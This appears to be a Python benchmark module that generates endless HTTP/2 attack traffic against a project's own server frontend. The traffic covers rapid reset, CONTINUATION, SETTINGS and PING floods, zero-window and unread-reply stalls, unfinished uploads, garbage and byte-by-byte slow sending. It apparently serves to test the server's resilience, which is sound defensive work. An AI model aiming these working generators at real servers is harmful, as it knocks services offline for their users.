"""What no client of HTTP/2 should do, as endless streams of bytes."""

from __future__ import annotations

import itertools
import os
import time
from collections.abc import Callable, Iterator

import hpack

from benchmarks.http2 import CALLBACK
from clockwork_triton.frontend.http2 import frames
from clockwork_triton.frontend.http2.errors import ErrorCode


def block() -> bytes:
    fields = [(":method", "POST"), (":scheme", "http"), (":path", CALLBACK), (":authority", "x")]
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    return encoder.encode([*fields, ("te", "trailers"), ("content-type", "application/grpc")])


BLOCK = block()
GREETING = frames.PREFACE + frames.settings(())


def headers(stream_id: int, flags: int = frames.END_HEADERS) -> bytes:
    return frames.frame(frames.HEADERS, flags, stream_id, BLOCK)


def data(stream_id: int, size: int, end: bool = True) -> bytes:
    return frames.frame(frames.DATA, int(end), stream_id, b"\0" + size.to_bytes(4, "big") + bytes(size))


def many(part: Callable[[int], bytes]) -> Iterator[bytes]:
    for first in itertools.count(1, 200):
        yield b"".join(part(stream_id) for stream_id in range(first, first + 200, 2))


def rapid_reset() -> Iterator[bytes]:
    return many(lambda stream_id: headers(stream_id) + frames.rst_stream(stream_id, ErrorCode.CANCEL))


def made_reset() -> Iterator[bytes]:
    return many(
        lambda stream_id: headers(stream_id) + frames.frame(frames.WINDOW_UPDATE, 0, stream_id, bytes(4))
    )


def continuations() -> Iterator[bytes]:
    yield headers(1, 0)
    while True:
        yield frames.frame(frames.CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 100


def settings() -> Iterator[bytes]:
    while True:
        yield frames.settings([(frames.HEADER_TABLE_SIZE, 0), (frames.INITIAL_WINDOW_SIZE, 5)]) * 100


def pings() -> Iterator[bytes]:
    while True:
        yield frames.ping(b"01234567") * 100


def empty_data() -> Iterator[bytes]:
    yield headers(1)
    while True:
        yield frames.frame(frames.DATA, 0, 1) * 100


def zero_window() -> Iterator[bytes]:
    """Asks for replies and lets none of them out, but for a byte now and then."""
    yield frames.settings([(frames.INITIAL_WINDOW_SIZE, 0)])
    for stream_id in itertools.count(1, 2):
        yield headers(stream_id) + data(stream_id, 16_000)
        yield frames.window_update(stream_id, 1)


def unread_replies() -> Iterator[bytes]:
    """Takes all windows can give and reads nothing."""
    yield frames.settings([(frames.INITIAL_WINDOW_SIZE, frames.MAX_WINDOW)])
    yield frames.window_update(0, 2**30)
    for stream_id in itertools.count(1, 2):
        yield headers(stream_id) + data(stream_id, 16_000)


def unfinished_uploads() -> Iterator[bytes]:
    """Announces 2 GB on every stream and sends little of it."""
    for stream_id in itertools.count(1, 2):
        yield headers(stream_id) + frames.frame(
            frames.DATA, 0, stream_id, b"\0\x7f\xff\xff\xff" + bytes(16_000)
        )


def garbage() -> Iterator[bytes]:
    while True:
        yield os.urandom(1000)


def silence() -> Iterator[bytes]:
    yield b""
    while True:
        time.sleep(0.05)
        yield b""


def byte_by_byte() -> Iterator[bytes]:
    for stream_id in itertools.count(1, 2):
        for byte in headers(stream_id) + data(stream_id, 100):
            yield bytes((byte,))


ATTACKS: dict[str, tuple[Callable[[], Iterator[bytes]], bool]] = {
    "rapid reset": (rapid_reset, True),
    "made reset": (made_reset, True),
    "CONTINUATION flood": (continuations, True),
    "SETTINGS flood": (settings, True),
    "PING flood": (pings, True),
    "empty DATA": (empty_data, True),
    "zero windows": (zero_window, True),
    "unread replies": (unread_replies, False),
    "unfinished uploads": (unfinished_uploads, True),
    "garbage": (garbage, True),
    "silence": (silence, True),
    "byte by byte": (byte_by_byte, True),
}
"""And whether the client reads what it is sent."""
